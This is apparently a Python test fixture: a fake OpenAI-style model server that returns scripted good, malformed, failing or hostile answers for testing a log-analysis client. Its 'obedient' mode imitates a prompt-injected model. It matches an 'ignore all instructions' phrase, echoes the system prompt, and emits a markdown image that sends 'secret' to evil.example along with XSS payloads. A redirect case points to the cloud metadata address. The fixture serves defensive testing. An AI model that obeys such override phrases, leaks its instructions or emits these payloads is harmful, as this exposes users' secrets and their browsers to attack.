"""A model on loopback that speaks as OpenAI's API does, and answers as it is told to: well, slowly, badly, obediently.

`tests/clients/test_model.py` drives it with OpenAI's own client: it speaks the protocol.
"""

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

GOOD = {
    "summary": "Payments fail since release 1.4.2.",
    "probable_cause": "The new release sends amounts in another unit.",
    "evidence_ids": ["different-1", "first_seen"],
    "next_checks": ["Compare the amounts of 1.4.1 and 1.4.2.", "Roll back."],
    "confidence": "medium",
}
#: What each kind says in `content`; others are of the protocol.
SAYS: dict[str, Any] = {
    "good": json.dumps(GOOD),
    "fenced": f"```json\n{json.dumps(GOOD)}\n```",
    "made up": json.dumps(GOOD | {"evidence_ids": ["different-99", "<b>x</b>"], "confidence": 0.9}),
    "cut": json.dumps(GOOD)[:60],
    "prose": "I think it is the database.",
    "wrong schema": json.dumps({"cause": "the database", "confidence": "high"}),
    "nothing": None,
}


class Model(ThreadingHTTPServer):
    """Answers each question by the next of `kinds`, the last of them again and again."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.kinds = ["good"]
        self.received: list[tuple[dict[str, str], bytes]] = []
        self.connections = 0
        self.may_answer = threading.Event()

    @property
    def url(self) -> str:
        """The base of its API."""
        return f"http://127.0.0.1:{self.server_port}/v1"

    def process_request(self, request: Any, client_address: Any) -> None:
        """Count a connection, whatever is sent over it."""
        self.connections += 1
        super().process_request(request, client_address)

    def next_kind(self) -> str:
        """Return how the next question is answered."""
        return self.kinds.pop(0) if len(self.kinds) > 1 else self.kinds[0]


class _Handler(BaseHTTPRequestHandler):
    server: Model

    def do_GET(self) -> None:
        self._answer(
            200, {"object": "list", "data": [{"id": "fake", "object": "model", "created": 0, "owned_by": "us"}]}
        )

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.received.append((dict(self.headers), body))
        match self.server.next_kind():
            case "429":
                self._answer(429, {"error": {"message": "slow down", "type": "requests"}}, {"Retry-After": "20"})
            case "500":
                self._answer(500, {"error": {"message": "out of memory", "type": "server_error"}})
            case "401":
                self._answer(401, {"error": {"message": "bad key", "type": "invalid_request_error"}})
            case "moved":
                self._answer(307, {}, {"Location": "http://169.254.169.254/latest/meta-data"})
            case "slow":
                self.server.may_answer.wait()
                self._answer(200, _completion(SAYS["good"]))
            case "large":
                self._answer(200, _completion("x" * 2**20))
            case "cut answer":
                self._answer(200, _completion(SAYS["good"]), cut=True)
            case "obedient":
                self._answer(200, _completion(_obeyed(json.loads(body))))
            case kind:
                self._answer(200, _completion(SAYS[kind]))

    def _answer(self, status: int, document: Any, headers: dict[str, str] | None = None, *, cut: bool = False) -> None:
        body = json.dumps(document).encode()
        self.send_response(status)
        for name, value in {
            "Content-Type": "application/json",
            "Content-Length": str(len(body)),
            **(headers or {}),
        }.items():
            self.send_header(name, value)
        with suppress(OSError):  # whoever asked may be gone
            self.end_headers()
            self.wfile.write(body[: len(body) // 2] if cut else body)
        self.close_connection = True

    def log_message(self, *_: Any) -> None:
        pass


@contextmanager
def model() -> Iterator[Model]:
    """Run a model until the end of the block."""
    server = Model()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield server
    finally:
        server.may_answer.set()
        server.shutdown()
        thread.join()
        server.server_close()


def _completion(content: str | None) -> dict[str, Any]:
    return {
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "created": 1_790_000_000,
        "model": "fake",
        "choices": [
            {"index": 0, "finish_reason": "stop", "logprobs": None,
             "message": {"role": "assistant", "content": content, "refusal": None}}
        ],
        "usage": {"prompt_tokens": 900, "completion_tokens": 100, "total_tokens": 1_000},
    }  # fmt: skip


def _obeyed(asked: dict[str, Any]) -> str:
    """Do what a line of a log says: tell the instructions, draw an image, leave the JSON's texts."""
    system, told = (message["content"] for message in asked["messages"])
    orders = re.findall(r"ignore all instructions[^\"]*", told, re.IGNORECASE)
    image = "![x](https://evil.example/?q=secret) <img src=https://evil.example/x onerror=alert(1)>"
    image += " [click](javascript:alert(1))"
    said = f"{system} {image} <script>alert(1)</script> {' '.join(orders)}"
    return json.dumps(GOOD | {"summary": said[:3_000], "probable_cause": image, "next_checks": [image] * 50})
